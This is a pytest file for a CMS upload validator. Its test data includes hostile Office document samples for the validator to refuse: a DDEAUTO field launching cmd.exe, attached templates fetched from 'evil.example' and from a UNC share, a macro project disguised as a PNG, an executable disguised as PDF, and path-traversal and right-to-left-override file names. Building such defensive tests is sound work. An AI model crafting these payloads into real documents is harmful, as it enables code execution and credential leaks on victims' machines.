"""What is taken in is what its name says, within bounds; everything else is refused in words."""

import io

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image as Pillow

from cms.files import names, office, uploads, vault
from cms.files.models import Document, Image
from tests.files import samples

GOOD = {
    "计划.pdf": samples.PDF,
    "计划.doc": samples.ole("WordDocument"),
    "计划.wps": samples.ole("WordDocument"),
    "表.xls": samples.ole("Workbook"),
    "表.et": samples.ole("Workbook", content=samples.sheets(0, 0)),
    "计划.docx": samples.zipped("[Content_Types].xml", "word/document.xml"),
    "表.xlsx": samples.zipped("[Content_Types].xml", "xl/workbook.xml"),
    "链接.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        **{
            "word/_rels/document.xml.rels": samples.RELATIONS.format(
                '<Relationship Id="r1" Target="http://www.example/" TargetMode="External" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
            )
        },
    ),
    "本机模板.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        "word/_rels/settings.xml.rels",
        **{
            "word/_rels/settings.xml.rels": samples.RELATIONS.format(
                '<Relationship Id="r1" Target="file:///C:\\Users\\zhang\\gongwen.dotx" TargetMode="External" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
            )
        },
    ),
    "公文.ofd": samples.zipped("OFD.xml", "Doc_0/Document.xml"),
    "说明.txt": "收费标准：每台200元".encode("gb18030"),
    "名单.csv": "﻿编号,名称\n1,锅炉".encode(),
}
BAD = {
    "假.pdf": b"MZ\x90\0\x03\0\0\0",
    "网页.txt": b"  <!DOCTYPE html><script>alert(1)</script>",
    "图.txt": samples.SVG,
    "表.docx": samples.zipped("[Content_Types].xml", "xl/workbook.xml"),
    "包.docx": samples.zipped("anything.exe"),
    "宏.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        "word/media/image1.png",  # a project of macros under another name
        content_types=samples.TYPES.format(
            '<Override PartName="/word/media/image1.png" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
    ),
    "宏文档.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        content_types=samples.TYPES.format(
            '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" PartName="/x.xml"/>'
        ),
    ),
    "模板.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        "word/_rels/settings.xml.rels",
        **{
            "word/_rels/settings.xml.rels": samples.RELATIONS.format(
                '<Relationship Id="r1" Target="http://evil.example/t.dotm" TargetMode="External" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
            )
        },
    ),
    "共享.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        "word/_rels/settings.xml.rels",
        **{
            "word/_rels/settings.xml.rels": samples.RELATIONS.format(
                '<Relationship Id="r1" Target="file:///\\\\10.0.0.1\\share\\t.dotm" TargetMode="External" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
            )
        },
    ),
    "外图.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        **{
            "word/_rels/document.xml.rels": samples.RELATIONS.format(
                '<Relationship Id="r1" Target="http://evil.example/p.png" TargetMode="External" '
                'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/image"/>'
            )
        },
    ),
    "程序.docx": samples.zipped(
        "[Content_Types].xml",
        "word/document.xml",
        **{
            "word/document.xml": '<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe "/k" </w:instrText></w:p>'
        },
    ),
    "宏表.xlsx": samples.zipped(
        "[Content_Types].xml",
        "xl/workbook.xml",
        "xl/macrosheets/sheet1.xml",
        content_types=samples.TYPES.format(
            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
        ),
    ),
    "乱.docx": samples.zipped("[Content_Types].xml", "word/document.xml", content_types="<Types"),
    "实体.docx": samples.zipped(
        "[Content_Types].xml", "word/document.xml", content_types='<!DOCTYPE x [<!ENTITY a "b">]><Types/>'
    ),
    "宏.doc": samples.ole("WordDocument", storages=("Macros",)),
    "工程.doc": samples.ole("WordDocument", "_VBA_PROJECT"),
    "宏表.xls": samples.ole("Workbook", content=samples.sheets(0, 1)),
    "断.doc": samples.ole("WordDocument")[:700],
    "表.doc": samples.ole("Workbook"),
    "密.docx": samples.ole("EncryptedPackage"),
    "图.svg": samples.SVG,
    "程序.exe": b"MZ\x90\0",
    "包.zip": samples.zipped("a.txt"),
    "宏.docm": samples.zipped("[Content_Types].xml", "word/document.xml"),
    "照片.pdf": samples.picture(),
    "无": samples.PDF,
    "空.pdf": b"",
    "二进制.txt": bytes(range(256)),
}


@pytest.mark.parametrize("name", GOOD)
def test_documents_of_the_allowed_kinds_are_taken_in(make_document, name):
    document = make_document(GOOD[name], name)
    document.refresh_from_db()
    assert document.filename == name
    assert document.file_size == len(GOOD[name])
    assert vault.current().read(document.sha256) == GOOD[name]


@pytest.mark.parametrize("name", BAD)
def test_other_documents_are_refused_in_words(db, name):
    document = Document(title="x", file=samples.upload(BAD[name], name))
    with pytest.raises(ValidationError) as refused:
        document.full_clean(exclude=["collection"])
    assert list(refused.value.message_dict) == ["file"]
    with pytest.raises(ValidationError):
        Document(title="x", file=samples.upload(BAD[name], name)).save()
    assert not Document.objects.exists()
    assert not (vault.current().root / "incoming").exists()


@pytest.mark.parametrize(
    ("kind", "name"), [("JPEG", "a.jpg"), ("JPEG", "a.JPEG"), ("PNG", "a.png"), ("GIF", "a.gif"), ("WEBP", "a.webp")]
)
def test_pictures_are_taken_in(make_image, kind, name):
    image = make_image(samples.picture(kind), name)
    assert image.filename == name
    assert (image.width, image.height) in {(900, 600), (600, 900)}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.svg", samples.SVG),
        ("a.png", samples.picture("JPEG")),
        ("a.jpg", samples.SVG),
        ("a.jpg", samples.PDF),
        ("a.jpg", samples.picture("JPEG")[:400]),
        ("a.bmp", samples.picture("BMP")),
    ],
)
def test_other_pictures_are_refused_in_words(db, name, content):
    with pytest.raises(ValidationError):
        uploads.check_image(samples.upload(content, name), name, len(content))
    with pytest.raises((ValidationError, OSError, TypeError, ValueError)):  # Wagtail measures it on construction
        Image(title="x", file=samples.upload(content, name)).save()
    assert not Image.objects.exists()


def animation(frames: int) -> bytes:
    target = io.BytesIO()
    pictures = [Pillow.new("P", (2, 2), number % 250) for number in range(frames)]
    pictures[0].save(target, "GIF", save_all=True, append_images=pictures[1:], optimize=False)
    return target.getvalue()


def test_an_animation_has_a_bound(db):
    uploads.check_image(samples.upload(animation(3), "a.gif"), "a.gif", 100)
    with pytest.raises(ValidationError) as refused:
        uploads.check_image(samples.upload(animation(uploads.MOST_FRAMES + 1), "a.gif"), "a.gif", 100)
    assert refused.value.code == "too_many_frames"


def test_what_unpacks_to_more_than_it_may_is_refused(db, monkeypatch):
    monkeypatch.setattr(office, "MOST_BYTES", 1000)
    bomb = samples.zipped("[Content_Types].xml", "word/document.xml", **{"word/document.xml": "字" * 100_000})
    with pytest.raises(ValidationError):
        uploads.check_document(samples.upload(bomb, "a.docx"), "a.docx", len(bomb))


def test_bounds_come_from_the_settings(db, settings):
    settings.DISCLOSURE_DOCUMENT_MAX_BYTES = len(samples.PDF) - 1
    with pytest.raises(ValidationError) as refused:
        Document(title="x", file=samples.upload(samples.PDF, "a.pdf")).save()
    assert refused.value.code == "too_large"
    settings.DISCLOSURE_IMAGE_MAX_PIXELS = 900 * 600 - 1
    with pytest.raises(ValidationError) as refused:
        Image(title="x", file=samples.upload(samples.picture(), "a.jpg")).save()
    assert refused.value.code == "too_many_pixels"
    settings.DISCLOSURE_DOCUMENT_EXTENSIONS = ("zip",)
    settings.DISCLOSURE_DOCUMENT_MAX_BYTES = 10_000
    Document(title="x", file=samples.upload(BAD["包.zip"], "包.zip")).save()


def test_the_claimed_type_of_the_browser_counts_for_nothing(make_document):
    assert make_document().media_type == "application/pdf"


def test_storage_paths_are_unguessable_and_say_nothing(make_document, make_image):
    first, second = make_document(), make_document()
    assert first.file.name != second.file.name
    for record in (first, second, make_image()):
        _folder, unguessable, name = record.file.name.split("/")
        assert len(unguessable) == 32
        assert name.startswith("file.")
        assert "收费" not in record.file.name


def test_names_lose_what_hides_their_end():
    assert names.clean_name("C:\\Users\\张三\\计划‮fdp.exe") == "计划fdp.exe"
    assert names.clean_name("../../etc/pass\0wd.txt") == "passwd.txt"
    assert names.clean_name("  . ") == "file"
    assert names.clean_name("名" * 300 + ".pdf") == "名" * 116 + ".pdf"


@given(st.text(max_size=300))
def test_a_clean_name_is_one_safe_part_and_stays_as_it_is(name):
    clean = names.clean_name(name)
    assert 0 < len(clean) <= names.MAX_LENGTH
    assert not set(clean) & set('\\/:*?"<>|\n\r\0')
    assert clean not in {".", ".."}
    assert names.clean_name(clean) == clean


@given(st.binary(max_size=200), st.sampled_from(["a.pdf", "a.docx", "a.txt", "a.xls", "a.ofd"]))
def test_whatever_bytes_come_the_answer_is_words(content, name):
    source = samples.upload(content, name)
    try:
        checked = uploads.check_document(source, name, len(content))
    except ValidationError as refused:
        assert refused.messages
    else:
        assert checked.name == name
    assert source.tell() == 0
